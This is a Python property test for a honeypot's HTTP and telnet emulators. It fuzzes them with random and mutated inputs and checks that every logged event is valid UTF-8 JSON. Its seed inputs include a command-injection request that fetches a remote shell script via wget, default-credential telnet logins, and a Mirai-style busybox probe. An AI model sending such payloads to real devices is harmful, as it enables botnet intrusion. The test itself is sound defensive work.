"""Property: whatever bytes reach the HTTP and telnet emulators, every event
line they emit is one valid JSON object in strict UTF-8 (python's json).

At least 100,000 inputs in all: random bytes, and adversarial ones made by
mutating real requests and logins (NUL, control bytes, invalid UTF-8,
surrogates, telnet IAC runs, huge lines). LURE_PROP_SEED and LURE_PROP_N
override the seed and the count per emulator."""
import json
import os
import random
import struct
import subprocess

import pytest

DRIVE = os.environ.get("LURE_PROPDRIVE", "")
N = int(os.environ.get("LURE_PROP_N", "60000"))
SEED = int(os.environ.get("LURE_PROP_SEED", "20261127"))

HTTP_SEEDS = [
    b"GET / HTTP/1.1\r\nHost: example\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
    b"POST /cgi-bin/luci HTTP/1.1\r\nContent-Length: 11\r\n"
    b"Authorization: Basic cm9vdDphZG1pbg==\r\n\r\nhello world",
    b"POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"4\r\nwiki\r\n0\r\n\r\n",
    b"HEAD /index.html HTTP/1.0\r\n\r\nGET /a?b=c HTTP/1.1\r\n\r\n",
    b"GET /shell?cd+/tmp;wget+http://192.0.2.9/x.sh HTTP/1.1\r\n\r\n",
]
TELNET_SEEDS = [
    b"root\r\nadmin\r\n",
    b"\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0admin\r\n1234\r\n",
    b"r\x00o\x7fot\r\x00pass\rword\n",
    b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n",
]
NASTY = [b"\x00", b"\xff", b"\xff\xff", b"\xc0\x80", b"\xed\xa0\x80",
         b"\xf4\x90\x80\x80", b"\xe2\x82", b"\r", b"\n", b"\r\n\r\n", b'"',
         b"\\", b"\x1b[2J", b"\xff\xfa", b"\xff\xf0", b"%00", "\u2028".encode()]


def mutate(rng, seed):
    b = bytearray(seed)
    for _ in range(rng.randint(1, 8)):
        op = rng.randint(0, 5)
        at = rng.randint(0, len(b))
        if op == 0:
            b[at:at] = rng.choice(NASTY)
        elif op == 1 and b:
            del b[at:at + rng.randint(1, 8)]
        elif op == 2:
            b[at:at] = bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 16)))
        elif op == 3:
            b[at:at] = rng.choice(NASTY) * rng.randint(100, 3000)
        elif op == 4:
            b[at:at] = b"A" * rng.randint(1000, 20000)
        else:
            b += rng.choice(HTTP_SEEDS + TELNET_SEEDS)
    return bytes(b)


def inputs(rng, seeds, n):
    for i in range(n):
        k = i % 4
        if k == 0:
            yield bytes(rng.getrandbits(8) for _ in range(rng.randint(0, 300)))
        elif k == 1:
            yield bytes(rng.choice(b"\x00\xff\r\n\x1b\"\\%\xc3\xa9 AZaz09:/")
                        for _ in range(rng.randint(0, 400)))
        else:
            yield mutate(rng, rng.choice(seeds))


@pytest.mark.skipif(not DRIVE, reason="LURE_PROPDRIVE not set (make test-it)")
def test_every_event_line_is_json():
    rng = random.Random(SEED)
    emus = ["http", "telnet"]
    frames = bytearray()
    count = 0
    for idx, seeds in enumerate([HTTP_SEEDS, TELNET_SEEDS]):
        for data in inputs(rng, seeds, N):
            frames += struct.pack("<BI", idx, len(data)) + data
            count += 1
    assert count >= 100000
    proc = subprocess.run([DRIVE] + emus, input=bytes(frames),
                          capture_output=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    lines = proc.stdout.split(b"\n")
    assert lines[-1] == b"", "output does not end with a newline"
    parsed = 0
    actions = set()
    for raw in lines[:-1]:
        text = raw.decode("utf-8")  # strict: invalid UTF-8 raises
        obj = json.loads(text)
        assert isinstance(obj, dict)
        actions.add(obj["event"]["action"])
        parsed += 1
    # the inputs must actually have reached the emulators' event paths
    assert parsed > count / 4, (parsed, count)
    assert {"request", "login"} <= actions, actions
    print(f"{count} inputs (seed {SEED}), {parsed} event lines, all valid JSON")
